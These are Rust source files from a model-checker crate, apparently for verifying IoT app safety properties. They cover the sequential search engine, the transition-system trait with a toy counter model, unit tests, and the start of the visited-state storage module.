        &self.config
    }

    /// Runs the search over `model` and reports violations and statistics.
    ///
    /// This is the sequential engine; [`SearchConfig::workers`] is ignored
    /// here (use [`crate::parallel::ParallelChecker`] for multi-core search —
    /// for an *exhaustive* run, i.e. no [`SearchConfig::stop_at_first`] and
    /// no cap or time budget firing, the two report the same set of violated
    /// properties for the same bounded model; an early-stopped search is
    /// order-dependent in either engine).
    pub fn verify<T: TransitionSystem>(&self, model: &T) -> SearchReport {
        match self.config.mode {
            SearchMode::Dfs => self.run::<T, false>(model),
            SearchMode::Bfs => self.run::<T, true>(model),
        }
    }

    /// The search loop; `BFS` selects queue (breadth-first) or stack
    /// (depth-first) frontier order — everything else is identical.
    fn run<T: TransitionSystem, const BFS: bool>(&self, model: &T) -> SearchReport {
        let start = Instant::now();
        let mut store = self.config.store.build();
        let mut report = SearchReport::default();
        let mut seen_properties: BTreeSet<u32> = BTreeSet::new();
        // Per-search telemetry tallies, flushed once in `finish` — the hot
        // loop never touches the global registry.
        let mut dedup_hits: usize = 0;
        let mut frontier_peak: usize = 1;
        flight::record(
            Level::Debug,
            EventCode::SearchStart,
            &format!("sequential depth={} store={:?}", self.config.max_depth, self.config.store),
        );

        // Reused hot-loop buffers: encoded state bytes, enabled actions,
        // model scratch, the (disabled) effect log and the path scratch for
        // the rare materializations.
        let mut encode_buf = Vec::new();
        let mut actions_buf: Vec<T::Action> = Vec::new();
        let mut scratch = T::Scratch::default();
        let mut log = StepLog::disabled();
        let mut path_buf: Vec<T::Action> = Vec::new();
        let mut arena: TraceArena<T::Action> = TraceArena::new();

        let initial = model.initial_state();
        encode_buf.clear();
        model.encode(&initial, &mut encode_buf);
        store.insert(&encode_buf);

        // The frontier: (state, depth, arena node).  A VecDeque serves both
        // orders — DFS pops the back, BFS pops the front.
        let mut frontier: VecDeque<(T::State, usize, u32)> = VecDeque::new();
        frontier.push_back((initial, 0, NO_PARENT));

        'search: while let Some((state, depth, node)) =
            if BFS { frontier.pop_front() } else { frontier.pop_back() }
        {
            if let Some(cap) = self.cap_hit(&report.stats, start, store.len()) {
                report.stats.record_cap(cap);
                break;
            }
            if depth >= self.config.max_depth {
                continue;
            }
            model.actions(&state, &mut actions_buf);
            for action in &actions_buf {
                if let Some(cap) = self.cap_hit(&report.stats, start, store.len()) {
                    report.stats.record_cap(cap);
                    break 'search;
                }
                let outcome = model.apply(&state, action, &mut scratch, &mut log);
                report.stats.transitions = report.stats.transitions.saturating_add(1);
                let next_depth = depth + 1;
                report.stats.max_depth_reached = report.stats.max_depth_reached.max(next_depth);

                if !outcome.violations.is_empty() {
                    record_violations(
                        model,
                        &outcome.violations,
                        &arena,
                        node,
                        action,
                        next_depth,
                        &mut seen_properties,
                        &mut report,
                        &mut path_buf,
                    );
                    if self.config.stop_at_first {
                        break 'search;
                    }
                }

                encode_buf.clear();
                model.encode(&outcome.state, &mut encode_buf);
                // Depth is part of the state identity: the same physical state
                // reached with fewer events still has more exploration budget
                // left, so it must be revisited.
                encode_buf.push(depth_tag(next_depth));
                if store.insert(&encode_buf) {
                    let next_node = arena.push(node, action);
                    frontier.push_back((outcome.state, next_depth, next_node));
                    frontier_peak = frontier_peak.max(frontier.len());
                } else {
                    dedup_hits += 1;
                }
            }
        }

        self.finish(&mut report, store.as_ref(), start, arena.memory_bytes());
        flush_search_telemetry(
            &report.stats,
            dedup_hits,
            frontier_peak,
            self.config.cancel.as_ref().is_some_and(|t| t.is_cancelled()),
        );
        report
    }

    fn cap_hit(&self, stats: &SearchStats, start: Instant, stored: usize) -> Option<CapHit> {
        if stats.transitions >= self.config.max_transitions {
            return Some(CapHit::Transitions);
        }
        if stored >= self.config.max_states {
            return Some(CapHit::States);
        }
        if let Some(limit) = self.config.time_limit {
            if start.elapsed() > limit {
                return Some(CapHit::Time);
            }
        }
        if let Some(token) = &self.config.cancel {
            if token.is_cancelled() {
                return Some(CapHit::Cancelled);
            }
        }
        None
    }

    /// Samples the monotonic clock exactly once and fills in the store-derived
    /// statistics — every exit path (exhaustion, caps firing mid-expansion,
    /// stop-at-first) reports time the same way.
    fn finish(
        &self,
        report: &mut SearchReport,
        store: &dyn crate::store::StateStore,
        start: Instant,
        arena_bytes: usize,
    ) {
        report.stats.states_stored = store.len();
        report.stats.store_memory_bytes = store.memory_bytes();
        report.stats.elapsed = start.elapsed();
        // Derived from the single elapsed sample above, so the reported
        // throughput always equals states_stored / elapsed exactly.
        report.stats.states_per_sec =
            states_per_sec(report.stats.states_stored, report.stats.elapsed);
        report.stats.peak_trace_bytes =
            arena_bytes + report.violations.iter().map(|v| v.trace.memory_bytes()).sum::<usize>();
        report.stats.workers = 1;
    }
}

/// Records the not-yet-seen violations of one step, materializing the shared
/// counterexample (arena path + triggering action, replayed from the initial
/// state) exactly once.
#[allow(clippy::too_many_arguments)]
fn record_violations<T: TransitionSystem>(
    model: &T,
    violations: &[Violation],
    arena: &TraceArena<T::Action>,
    parent: u32,
    action: &T::Action,
    depth: usize,
    seen: &mut BTreeSet<u32>,
    report: &mut SearchReport,
    path_buf: &mut Vec<T::Action>,
) {
    let fresh: Vec<&Violation> = violations.iter().filter(|v| seen.insert(v.property)).collect();
    let Some((last, rest)) = fresh.split_last() else { return };
    arena.path(parent, path_buf);
    path_buf.push(action.clone());
    let trace = materialize_trace(model, path_buf);
    // Co-violations of one step share the trace; only the first n−1 clone it.
    for violation in rest {
        report.violations.push(FoundViolation {
            violation: (*violation).clone(),
            trace: trace.clone(),
            depth,
        });
    }
    report.violations.push(FoundViolation { violation: (*last).clone(), trace, depth });
}

/// Distinct-states-per-second throughput, guarded against zero elapsed time.
///
/// The guard keeps the result finite for every input a search can produce
/// (a zero-duration run divides by `1e-9`, not `0`), so no `inf`/NaN ever
/// reaches [`SearchStats::states_per_sec`], the daemon codec or a rendered
/// BENCH row — see `states_per_sec_is_always_finite`.
pub(crate) fn states_per_sec(states: usize, elapsed: Duration) -> f64 {
    states as f64 / elapsed.as_secs_f64().max(1e-9)
}

/// Flushes one finished search's tallies into the global telemetry
/// registry and flight ring — the engines' single per-search telemetry
/// touch point (sequential `run` and the parallel merge both end here).
pub(crate) fn flush_search_telemetry(
    stats: &SearchStats,
    dedup_hits: usize,
    frontier_peak: usize,
    cancelled: bool,
) {
    METRICS.checker_searches.inc();
    METRICS.checker_states.add(stats.states_stored as u64);
    METRICS.checker_transitions.add(stats.transitions as u64);
    METRICS.checker_dedup_hits.add(dedup_hits as u64);
    METRICS.checker_last_states_per_sec.set(stats.states_per_sec);
    METRICS.checker_frontier_peak.set(frontier_peak as i64);
    METRICS.checker_arena_peak_bytes.set(stats.peak_trace_bytes as i64);
    if stats.truncated {
        METRICS.checker_truncated.inc();
        let code = if cancelled { EventCode::SearchCancel } else { EventCode::SearchCap };
        flight::record(
            Level::Info,
            code,
            &format!(
                "states={} transitions={} states_capped={} transitions_capped={}",
                stats.states_stored,
                stats.transitions,
                stats.states_capped,
                stats.transitions_capped
            ),
        );
    }
}

/// The depth byte appended to encoded states (saturating: the checker's event
/// bounds are far below 255, but a pathological configuration must not wrap
/// and alias distinct depths).
pub(crate) fn depth_tag(depth: usize) -> u8 {
    depth.min(u8::MAX as usize) as u8
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::transition::testing::CounterModel;

    fn model() -> CounterModel {
        CounterModel { bad_value: 6, max_value: 32 }
    }

    #[test]
    fn dfs_finds_the_violation() {
        let checker = Checker::new(SearchConfig::with_depth(5));
        let report = checker.verify(&model());
        assert!(report.has_violations());
        assert_eq!(report.violated_properties().len(), 1);
        let found = report.violation_for(1).unwrap();
        // The counter starts at 1; reaching 6 needs at least 3 steps
        // (1→2→3→6 or 1→2→4→5→6 ...), so the trace is non-trivial.
        assert!(found.depth >= 3);
        assert!(!found.trace.is_empty());
    }

    #[test]
    fn materialized_trace_replays_actions_and_logs() {
        let checker = Checker::new(SearchConfig::with_depth(5));
        let report = checker.verify(&model());
        let found = report.violation_for(1).unwrap();
        // The trace has one step per external event and each step carries the
        // replayed log (the counter model logs its value every step), with
        // the final log line naming the bad value.
        assert_eq!(found.trace.len(), found.depth);
        assert!(found.trace.steps.iter().all(|s| !s.log.is_empty()));
        assert_eq!(found.trace.steps.last().unwrap().log[0].text, "counter = 6");
        // Action strings come from display_action.
        assert!(found.trace.events().iter().all(|e| *e == "inc" || *e == "dbl"));
    }

    #[test]
    fn bfs_finds_shortest_counterexample() {
        let mut config = SearchConfig::with_depth(6);
        config.mode = SearchMode::Bfs;
        let report = Checker::new(config).verify(&model());
        let found = report.violation_for(1).unwrap();
        // Shortest path to 6: 1→2→3→6 (double, increment, double) = 3 steps.
        assert_eq!(found.depth, 3);
    }

    #[test]
    fn depth_bound_limits_reachability() {
        // With a depth bound of 2 the counter can reach at most 4, so the bad
        // value 6 is unreachable.
        let checker = Checker::new(SearchConfig::with_depth(2));
        let report = checker.verify(&model());
        assert!(!report.has_violations());
        assert!(report.stats.max_depth_reached <= 2);
        assert!(report.stats.states_stored > 0);
    }

    #[test]
    fn stop_at_first_terminates_early() {
        let mut config = SearchConfig::with_depth(8);
        config.stop_at_first = true;
        let report = Checker::new(config).verify(&model());
        assert_eq!(report.violations.len(), 1);
    }

    #[test]
    fn bitstate_explores_comparable_state_count() {
        let exact = Checker::new(SearchConfig::with_depth(6)).verify(&model());
        let bitstate = Checker::new(SearchConfig::with_depth(6).bitstate()).verify(&model());
        // Bitstate hashing may lose a few states to false positives but must
        // never explore more than exact storage.
        assert!(bitstate.stats.states_stored <= exact.stats.states_stored);
        assert!(bitstate.stats.states_stored as f64 >= exact.stats.states_stored as f64 * 0.9);
        // And it still finds the violation.
        assert!(bitstate.has_violations());
    }

    #[test]
    fn transition_cap_truncates_search() {
        let mut config = SearchConfig::with_depth(10);
        config.max_transitions = 5;
        let report = Checker::new(config).verify(&model());
        assert!(report.stats.truncated);
        assert!(report.stats.transitions_capped);
        assert!(!report.stats.states_capped);
        assert!(report.stats.transitions <= 6);
    }

    #[test]
    fn state_cap_truncates_search_and_is_flagged() {
        let mut config = SearchConfig::with_depth(10);
        config.max_states = 3;
        let report = Checker::new(config).verify(&model());
        assert!(report.stats.truncated);
        assert!(report.stats.states_capped);
        // The cap is checked between expansions, so the store may exceed it by
        // at most one expansion's successors (branching factor 2 here).
        assert!(report.stats.states_stored >= 3);
        assert!(report.stats.states_stored <= 5);
    }

    #[test]
    fn uncapped_search_reports_no_cap_flags() {
        let report = Checker::new(SearchConfig::with_depth(4)).verify(&model());
        assert!(!report.stats.truncated);
        assert!(!report.stats.states_capped);
        assert!(!report.stats.transitions_capped);
        assert_eq!(report.stats.workers, 1);
    }

    #[test]
    fn time_cap_reports_monotonic_elapsed() {
        let mut config = SearchConfig::with_depth(12);
        config.time_limit = Some(Duration::ZERO);
        let report = Checker::new(config).verify(&model());
        assert!(report.stats.truncated);
        // Neither count cap fired; the elapsed time is recorded and usable.
        assert!(!report.stats.states_capped);
        assert!(!report.stats.transitions_capped);
        assert!(report.stats.elapsed > Duration::ZERO);
    }

    #[test]
    fn cancelled_token_truncates_search() {
        let token = CancelToken::new();
        token.cancel();
        let config = SearchConfig::with_depth(12).cancellable(token);
        let report = Checker::new(config).verify(&model());
        // The token was cancelled before the search started: it stops at the
        // very first cap check, reporting truncation but no count cap.
        assert!(report.stats.truncated);
        assert!(!report.stats.states_capped);
        assert!(!report.stats.transitions_capped);
        assert_eq!(report.stats.transitions, 0);
    }

    #[test]
    fn uncancelled_token_changes_nothing() {
        let plain = Checker::new(SearchConfig::with_depth(5)).verify(&model());
        let token = CancelToken::new();
        let tokened =
            Checker::new(SearchConfig::with_depth(5).cancellable(token.clone())).verify(&model());
        assert!(!tokened.stats.truncated);
        assert_eq!(plain.violated_properties(), tokened.violated_properties());
        assert_eq!(plain.stats.states_stored, tokened.stats.states_stored);
        assert!(!token.is_cancelled());
    }

    #[test]
    fn cancel_tokens_compare_by_identity() {
        let a = CancelToken::new();
        let b = a.clone();
        assert_eq!(a, b);
        assert_ne!(a, CancelToken::new());
    }

    #[test]
    fn states_per_sec_is_always_finite() {
        // The raw guard: no input a search can produce divides by zero.
        assert!(states_per_sec(0, Duration::ZERO).is_finite());
        assert!(states_per_sec(usize::MAX, Duration::ZERO).is_finite());
        assert!(states_per_sec(1_000_000, Duration::from_nanos(1)).is_finite());
        assert!(states_per_sec(0, Duration::MAX).is_finite());
        assert_eq!(states_per_sec(5, Duration::from_secs(2)), 2.5);
        assert!(!states_per_sec(1, Duration::ZERO).is_nan());
    }

    #[test]
    fn zero_elapsed_search_reports_finite_throughput() {
        // A search that stops at its very first cap check measures ~zero
        // elapsed time; the reported rate must still be finite (it flows
        // into the daemon codec and rendered BENCH rows unchecked).
        let mut config = SearchConfig::with_depth(12);
        config.time_limit = Some(Duration::ZERO);
        let report = Checker::new(config).verify(&model());
        assert!(report.stats.states_per_sec.is_finite());
        assert!(!report.stats.states_per_sec.is_nan());
    }

    #[test]
    fn depth_tag_saturates() {
        assert_eq!(depth_tag(3), 3);
        assert_eq!(depth_tag(255), 255);
        assert_eq!(depth_tag(1000), 255);
    }

    #[test]
    fn stats_are_populated() {
        let report = Checker::new(SearchConfig::with_depth(4)).verify(&model());
        assert!(report.stats.transitions > 0);
        assert!(report.stats.states_stored > 0);
        assert!(report.stats.store_memory_bytes > 0);
        assert!(report.stats.max_depth_reached <= 4);
        assert!(report.stats.states_per_sec > 0.0);
        // The arena recorded nodes, and the reported violation carries a
        // materialized trace — both show up in the bookkeeping high-water
        // mark.
        assert!(report.stats.peak_trace_bytes > 0);
    }

    #[test]
    fn arena_paths_round_trip() {
        let mut arena: TraceArena<u8> = TraceArena::new();
        let a = arena.push(NO_PARENT, &1);
        let b = arena.push(a, &2);
        let c = arena.push(b, &3);
        let mut path = Vec::new();
        arena.path(c, &mut path);
        assert_eq!(path, vec![1, 2, 3]);
        arena.path(NO_PARENT, &mut path);
        assert!(path.is_empty());
        assert!(arena.memory_bytes() > 0);
    }

    #[test]
    fn arena_prefixes_root_stolen_subtrees() {
        let mut arena: TraceArena<u8> = TraceArena::new();
        let root = arena.add_prefix(vec![9, 8]);
        let a = arena.push(root, &1);
        let b = arena.push(a, &2);
        let mut path = Vec::new();
        arena.path(b, &mut path);
        assert_eq!(path, vec![9, 8, 1, 2]);
        // An empty prefix is the plain root.
        assert_eq!(arena.add_prefix(Vec::new()), NO_PARENT);
    }
}
