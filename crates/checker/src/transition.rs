//! The transition-system abstraction the checker explores.
//!
//! The model generator (in `iotsan-core`) builds concrete transition systems
//! — a sequential-design model and a strict-concurrent model (§8, "Concurrency
//! Model") — and the checker explores them without knowing anything about IoT
//! semantics.  This mirrors how Spin explores a Promela model: the model
//! defines the next-state relation, the checker owns search, state storage and
//! counterexample reconstruction.
//!
//! # Hot-loop contract
//!
//! The trait is shaped so the steady-state exploration loop performs no
//! per-transition heap allocation:
//!
//! * [`TransitionSystem::actions`] writes into a caller-owned, reused buffer;
//! * [`TransitionSystem::apply`] receives a reusable [`TransitionSystem::Scratch`]
//!   (per search worker) for whatever intermediate storage the model needs —
//!   event queues, observations, snapshot buffers;
//! * effect logging goes through a [`StepLog`] that is **disabled** during
//!   search: models push structured [`TransitionSystem::Event`]s through
//!   [`StepLog::push`], whose closure is never even invoked while the log is
//!   off.  Events are only recorded — and only rendered to strings, via
//!   [`TransitionSystem::render_event`] — when a counterexample is
//!   materialized by replaying its action sequence (`apply` must therefore be
//!   deterministic).

use crate::trace::LogLine;
use std::fmt;

/// A safety violation reported by the model while applying an action.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub struct Violation {
    /// Identifier of the violated property (the catalog's `PropertyId.0`).
    pub property: u32,
    /// Human-readable description of the violated property.
    pub description: String,
}

impl fmt::Display for Violation {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "P{:02}: {}", self.property, self.description)
    }
}

/// The result of applying one action to a state.
#[derive(Debug, Clone)]
pub struct StepOutcome<S> {
    /// The successor state.
    pub state: S,
    /// Properties violated while taking this step (step-based properties) or
    /// in the resulting state (physical-state invariants).  Empty on the vast
    /// majority of transitions, in which case the `Vec` never allocates.
    pub violations: Vec<Violation>,
}

/// A deferred effect log: a buffer of structured events that is a no-op
/// while disabled.
///
/// The search engines keep one `StepLog` per worker with logging *off*, so
/// the interpreter's event construction (and any string formatting it would
/// imply) is skipped entirely on the hot path.  Counterexample
/// materialization re-applies the recorded action sequence with logging *on*
/// and renders the captured events.
#[derive(Debug, Clone)]
pub struct StepLog<E> {
    events: Vec<E>,
    enabled: bool,
}

impl<E> Default for StepLog<E> {
    fn default() -> Self {
        StepLog { events: Vec::new(), enabled: false }
    }
}

impl<E> StepLog<E> {
    /// A disabled log (the search engines' hot-path configuration).
    pub fn disabled() -> Self {
        Self::default()
    }

    /// An enabled log (used while materializing counterexamples).
    pub fn enabled() -> Self {
        StepLog { events: Vec::new(), enabled: true }
    }

    /// True when events are being recorded.
    #[inline]
    pub fn is_enabled(&self) -> bool {
        self.enabled
    }

    /// Records the event produced by `f` — but only when the log is enabled;
    /// a disabled log never invokes `f`, so event construction costs nothing
    /// on the hot path.
    #[inline]
    pub fn push(&mut self, f: impl FnOnce() -> E) {
        if self.enabled {
            self.events.push(f());
        }
    }

    /// Clears recorded events, keeping the buffer's capacity.
    pub fn clear(&mut self) {
        self.events.clear();
    }

    /// The recorded events, in push order.
    pub fn events(&self) -> &[E] {
        &self.events
    }
}

/// A transition system the checker can explore.
pub trait TransitionSystem {
    /// The state type (must be cheap to clone; encoded via [`TransitionSystem::encode`]).
    type State: Clone;
    /// The action (external-event choice) type.  Kept deliberately small and
    /// string-free by the models: actions are cloned into the counterexample
    /// arena for every admitted state.
    type Action: Clone;
    /// The structured effect-log event type ([`StepLog`]); rendered to text
    /// only via [`TransitionSystem::render_event`].
    type Event;
    /// Reusable per-worker scratch space for [`TransitionSystem::apply`].
    type Scratch: Default;

    /// The initial state.
    fn initial_state(&self) -> Self::State;

    /// Writes the actions enabled in `state` into `out` (cleared first).  For
    /// the sequential design this is the set of `(sensor, physical event,
    /// failure mode)` choices; for the concurrent design it also includes
    /// pending internal event dispatches.
    fn actions(&self, state: &Self::State, out: &mut Vec<Self::Action>);

    /// Applies `action` to `state`, returning the successor and any
    /// violations.  `scratch` is caller-owned reusable storage; `log`
    /// receives the structured effect events (and is disabled during
    /// search).  Must be deterministic: replaying the same action sequence
    /// from the initial state reproduces the same outcomes and events.
    fn apply(
        &self,
        state: &Self::State,
        action: &Self::Action,
        scratch: &mut Self::Scratch,
        log: &mut StepLog<Self::Event>,
    ) -> StepOutcome<Self::State>;

    /// Serializes the parts of the state relevant for equivalence into `out`.
    /// Two states with identical encodings are considered the same by the
    /// state store.
    fn encode(&self, state: &Self::State, out: &mut Vec<u8>);

    /// Renders an action for counterexample traces and reports (only called
    /// during materialization, never on the hot path).
    fn display_action(&self, action: &Self::Action) -> String;

    /// Renders a structured effect event into a trace log line (only called
    /// during materialization).
    fn render_event(&self, event: &Self::Event) -> LogLine;
}

#[cfg(test)]
pub(crate) mod testing {
    //! A tiny counter model used by the checker's own unit tests: states are
    //! integers, actions increment or double, and a violation fires when the
    //! counter reaches a configurable bad value.

    use super::*;

    /// Toy model over `u32` counters.
    pub struct CounterModel {
        /// Value that triggers a violation.
        pub bad_value: u32,
        /// Upper bound for the counter (keeps the state space finite).
        pub max_value: u32,
    }

    /// The toy model's action.
    #[derive(Debug, Clone, Copy, PartialEq, Eq)]
    pub enum CounterAction {
        /// Add one.
        Increment,
        /// Multiply by two.
        Double,
    }

    impl fmt::Display for CounterAction {
        fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
            match self {
                CounterAction::Increment => write!(f, "inc"),
                CounterAction::Double => write!(f, "dbl"),
            }
        }
    }

    impl TransitionSystem for CounterModel {
        type State = u32;
        type Action = CounterAction;
        type Event = u32;
        type Scratch = ();

        fn initial_state(&self) -> u32 {
            1
        }

        fn actions(&self, state: &u32, out: &mut Vec<CounterAction>) {
            out.clear();
            if *state < self.max_value {
                out.push(CounterAction::Increment);
                out.push(CounterAction::Double);
            }
        }

        fn apply(
            &self,
            state: &u32,
            action: &CounterAction,
            _scratch: &mut (),
            log: &mut StepLog<u32>,
        ) -> StepOutcome<u32> {
            let next = match action {
                CounterAction::Increment => state + 1,
                CounterAction::Double => state * 2,
            }
            .min(self.max_value);
            let mut violations = Vec::new();
            if next == self.bad_value {
                violations.push(Violation {
                    property: 1,
                    description: format!("counter reached {next}"),
                });
            }
            log.push(|| next);
            StepOutcome { state: next, violations }
        }

        fn encode(&self, state: &u32, out: &mut Vec<u8>) {
            out.extend_from_slice(&state.to_le_bytes());
        }

        fn display_action(&self, action: &CounterAction) -> String {
            action.to_string()
        }

        fn render_event(&self, event: &u32) -> LogLine {
            LogLine::new(format!("counter = {event}"))
        }
    }
}

#[cfg(test)]
mod tests {
    use super::testing::{CounterAction, CounterModel};
    use super::*;

    #[test]
    fn violation_display() {
        let v = Violation { property: 3, description: "door unlocked".into() };
        assert_eq!(v.to_string(), "P03: door unlocked");
    }

    #[test]
    fn counter_model_behaves() {
        let m = CounterModel { bad_value: 4, max_value: 8 };
        assert_eq!(m.initial_state(), 1);
        let mut actions = Vec::new();
        m.actions(&1, &mut actions);
        assert_eq!(actions.len(), 2);
        m.actions(&8, &mut actions);
        assert!(actions.is_empty());
        let mut log = StepLog::enabled();
        let out = m.apply(&2, &CounterAction::Double, &mut (), &mut log);
        assert_eq!(out.state, 4);
        assert_eq!(out.violations.len(), 1);
        assert_eq!(log.events(), &[4]);
        assert_eq!(m.render_event(&log.events()[0]).text, "counter = 4");
        let mut buf = Vec::new();
        m.encode(&4, &mut buf);
        assert_eq!(buf, 4u32.to_le_bytes().to_vec());
    }

    #[test]
    fn disabled_log_never_constructs_events() {
        let mut log: StepLog<u32> = StepLog::disabled();
        log.push(|| panic!("event constructed on a disabled log"));
        assert!(log.events().is_empty());
        assert!(!log.is_enabled());
        let mut log = StepLog::enabled();
        assert!(log.is_enabled());
        log.push(|| 7);
        assert_eq!(log.events(), &[7]);
        log.clear();
        assert!(log.events().is_empty());
    }
}
