//! The transition-system abstraction the checker explores.
//!
//! The model generator (in `iotsan-core`) builds concrete transition systems
//! — a sequential-design model and a strict-concurrent model (§8, "Concurrency
//! Model") — and the checker explores them without knowing anything about IoT
//! semantics.  This mirrors how Spin explores a Promela model: the model
//! defines the next-state relation, the checker owns search, state storage and
//! counterexample reconstruction.

use std::fmt;

/// A safety violation reported by the model while applying an action.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub struct Violation {
    /// Identifier of the violated property (the catalog's `PropertyId.0`).
    pub property: u32,
    /// Human-readable description of the violated property.
    pub description: String,
}

impl fmt::Display for Violation {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "P{:02}: {}", self.property, self.description)
    }
}

/// The result of applying one action to a state.
#[derive(Debug, Clone)]
pub struct StepOutcome<S> {
    /// The successor state.
    pub state: S,
    /// Properties violated while taking this step (step-based properties) or
    /// in the resulting state (physical-state invariants).
    pub violations: Vec<Violation>,
    /// Spin-style log lines describing what happened in this step; used to
    /// build Figure-7-style counterexample traces.
    pub log: Vec<String>,
}

/// A transition system the checker can explore.
pub trait TransitionSystem {
    /// The state type (must be cheap to clone; encoded via [`TransitionSystem::encode`]).
    type State: Clone;
    /// The action (external-event choice) type.
    type Action: Clone + fmt::Display;

    /// The initial state.
    fn initial_state(&self) -> Self::State;

    /// The actions enabled in `state`.  For the sequential design this is the
    /// set of `(sensor, physical event, failure mode)` choices; for the
    /// concurrent design it also includes pending internal event dispatches.
    fn actions(&self, state: &Self::State) -> Vec<Self::Action>;

    /// Applies `action` to `state`, returning the successor, any violations
    /// and the log of what happened.
    fn apply(&self, state: &Self::State, action: &Self::Action) -> StepOutcome<Self::State>;

    /// Serializes the parts of the state relevant for equivalence into `out`.
    /// Two states with identical encodings are considered the same by the
    /// state store.
    fn encode(&self, state: &Self::State, out: &mut Vec<u8>);
}

#[cfg(test)]
pub(crate) mod testing {
    //! A tiny counter model used by the checker's own unit tests: states are
    //! integers, actions increment or double, and a violation fires when the
    //! counter reaches a configurable bad value.

    use super::*;

    /// Toy model over `u32` counters.
    pub struct CounterModel {
        /// Value that triggers a violation.
        pub bad_value: u32,
        /// Upper bound for the counter (keeps the state space finite).
        pub max_value: u32,
    }

    /// The toy model's action.
    #[derive(Debug, Clone, Copy, PartialEq, Eq)]
    pub enum CounterAction {
        /// Add one.
        Increment,
        /// Multiply by two.
        Double,
    }

    impl fmt::Display for CounterAction {
        fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
            match self {
                CounterAction::Increment => write!(f, "inc"),
                CounterAction::Double => write!(f, "dbl"),
            }
        }
    }

    impl TransitionSystem for CounterModel {
        type State = u32;
        type Action = CounterAction;

        fn initial_state(&self) -> u32 {
            1
        }

        fn actions(&self, state: &u32) -> Vec<CounterAction> {
            if *state >= self.max_value {
                Vec::new()
            } else {
                vec![CounterAction::Increment, CounterAction::Double]
            }
        }

        fn apply(&self, state: &u32, action: &CounterAction) -> StepOutcome<u32> {
            let next = match action {
                CounterAction::Increment => state + 1,
                CounterAction::Double => state * 2,
            }
            .min(self.max_value);
            let mut violations = Vec::new();
            if next == self.bad_value {
                violations.push(Violation {
                    property: 1,
                    description: format!("counter reached {next}"),
                });
            }
            StepOutcome { state: next, violations, log: vec![format!("counter = {next}")] }
        }

        fn encode(&self, state: &u32, out: &mut Vec<u8>) {
            out.extend_from_slice(&state.to_le_bytes());
        }
    }
}

#[cfg(test)]
mod tests {
    use super::testing::{CounterAction, CounterModel};
    use super::*;

    #[test]
    fn violation_display() {
        let v = Violation { property: 3, description: "door unlocked".into() };
        assert_eq!(v.to_string(), "P03: door unlocked");
    }

    #[test]
    fn counter_model_behaves() {
        let m = CounterModel { bad_value: 4, max_value: 8 };
        assert_eq!(m.initial_state(), 1);
        assert_eq!(m.actions(&1).len(), 2);
        assert!(m.actions(&8).is_empty());
        let out = m.apply(&2, &CounterAction::Double);
        assert_eq!(out.state, 4);
        assert_eq!(out.violations.len(), 1);
        let mut buf = Vec::new();
        m.encode(&4, &mut buf);
        assert_eq!(buf, 4u32.to_le_bytes().to_vec());
    }
}
