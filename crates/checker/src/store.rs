//! Visited-state storage.
//!
//! Spin offers two main storage strategies: exhaustive (every state vector is
//! stored) and BITSTATE hashing, an approximate scheme that stores only a few
//! hash bits per state in a large bit array (§2.3 of the paper uses Spin's
//! verification mode with BITSTATE hashing because an IoT system "may be
//! composed of a large number of apps and smart devices").
//!
//! [`StateStore`] abstracts over three strategies:
//!
//! * [`ExactStore`] — stores the full encoded state vector (no false sharing,
//!   highest memory use);
//! * [`HashCompactStore`] — stores a 64-bit hash per state (Spin's hash-compact
//!   mode); collisions are astronomically unlikely for our state counts;
//! * [`BitstateStore`] — a Bloom-filter bit array with `k` probe positions
//!   (Spin's `-DBITSTATE`); may report a new state as already visited (losing
//!   coverage) but never the reverse.
//!
//! # One hash per probe
//!
//! Every store operation runs **one** pass of [`fnv1a`] over the encoded
//! state and derives everything else from that 64-bit value: the
//! [`ShardedStore`] picks its shard from the *high* bits, [`ExactStore`] and
//! [`HashCompactStore`] key their tables by the full value through an
//! identity hasher (no re-hashing of the state bytes, no SipHash over them),
//! and [`BitstateStore`] expands the value into `k` Bloom probes with a
//! [`splitmix64`] double-hashing scheme.  Earlier revisions hashed each state
//! two to three times per probe (`shard_of` ran its own pass, then the inner
//! `HashSet<Vec<u8>>` re-hashed the bytes); on long states that was a
//! measurable fraction of the exploration hot loop.

use std::collections::{HashMap, HashSet};
use std::hash::{BuildHasherDefault, Hasher};
use std::sync::Mutex;

/// FNV-1a 64-bit hash (the checker avoids external hashing crates).  This is
/// the *single* per-state hash; all storage strategies derive their keys,
/// shard choices and probe positions from its output.
pub fn fnv1a(bytes: &[u8]) -> u64 {
    let mut hash: u64 = 0xcbf2_9ce4_8422_2325;
    for b in bytes {
        hash ^= *b as u64;
        hash = hash.wrapping_mul(0x0000_0100_0000_01b3);
    }
    hash
}

/// The splitmix64 finalizer: diffuses a 64-bit value over all bits.  Used to
/// derive the second Bloom hash (Kirsch–Mitzenmacher double hashing) from the
/// single per-state [`fnv1a`] value.
pub fn splitmix64(mut x: u64) -> u64 {
    x = x.wrapping_add(0x9e37_79b9_7f4a_7c15);
    x = (x ^ (x >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    x = (x ^ (x >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    x ^ (x >> 31)
}

/// A pass-through [`Hasher`] for keys that *are* already hashes (the
/// precomputed per-state [`fnv1a`] value).  Using it as the `HashMap`/
/// `HashSet` build hasher means the table never runs SipHash over the state
/// again.
#[derive(Debug, Default, Clone)]
pub struct IdentityHasher(u64);

impl Hasher for IdentityHasher {
    fn finish(&self) -> u64 {
        self.0
    }

    fn write(&mut self, bytes: &[u8]) {
        // Only reached if a non-u64 key sneaks in; fold bytes so behaviour
        // stays correct (if slower) rather than silently colliding.
        for b in bytes {
            self.0 = self.0.rotate_left(8) ^ u64::from(*b);
        }
    }

    fn write_u64(&mut self, n: u64) {
        self.0 = n;
    }
}

/// Build-hasher alias for [`IdentityHasher`]-keyed tables.
pub type IdentityState = BuildHasherDefault<IdentityHasher>;

/// How visited states are remembered during the search.
///
/// The `*_hashed` methods take the precomputed [`fnv1a`] value of `encoded`
/// so composite stores (sharding, probing, exact comparison) share one hash
/// pass; the hash-free convenience methods compute it on the spot.
pub trait StateStore {
    /// Inserts the encoded state, returning `true` when it was *not* seen
    /// before (i.e. the state is new and should be explored).
